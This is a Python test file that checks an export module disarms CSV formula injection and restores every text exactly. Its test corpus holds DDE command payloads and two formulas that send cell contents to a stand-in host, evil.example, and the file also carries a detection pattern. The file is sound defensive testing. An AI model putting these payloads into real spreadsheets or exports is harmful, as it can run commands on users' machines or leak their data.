"""Formulas in cells: the corpus of known attacks is disarmed, and every text comes back as it was."""

import csv
import re
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.export.cells import guarded, unguarded

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "＠x",
    "harmless;=1+1",
    "first line\n=1+1",
    "first line\n- a list item",
    "tab\t@x",
    "'=1+1",
    'harmless;"=1+1',
    'harmless; " "=1+1',
    'first line\n"@SUM(1+1)',
    'tab\t""=1+1',
]
DANGEROUS = re.compile(r"(?:\A|[;\t\r\n])[\s\"]*[=+\-@＝＋－＠]|\A[\t\r\n]")


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = guarded(text)
    assert not DANGEROUS.search(cell)
    assert unguarded(cell) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_begins_one_where_the_separator_is_a_semicolon(text: str) -> None:
    """There a line of the file is cut elsewhere, and a quotation mark opens a cell that the next one ends."""
    written = StringIO(newline="")
    csv.writer(written).writerow(["S-1", guarded(text), "en"])
    for row in csv.reader(StringIO(written.getvalue(), newline=None), delimiter=";"):
        assert not [cell for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)]


@pytest.mark.parametrize("text", ["", "2023-02-01", "-5", "a = b", "10-12", "nasser-bourita; marco-rubio", "قال: نعم"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@＝'; \t\r\n,\"aب5"), max_size=12))
def test_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert re.fullmatch(r"-\d+", text) or not DANGEROUS.search(cell)


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_every_row_comes_back_through_a_file(row: list[str]) -> None:
    row = [text.replace("\x00", "").encode("utf-8", "replace").decode() for text in row]
    buffer = StringIO()
    csv.writer(buffer).writerow([guarded(text) for text in row])
    (read,) = csv.reader(StringIO(buffer.getvalue(), newline=""))
    assert [unguarded(cell) for cell in read] == row
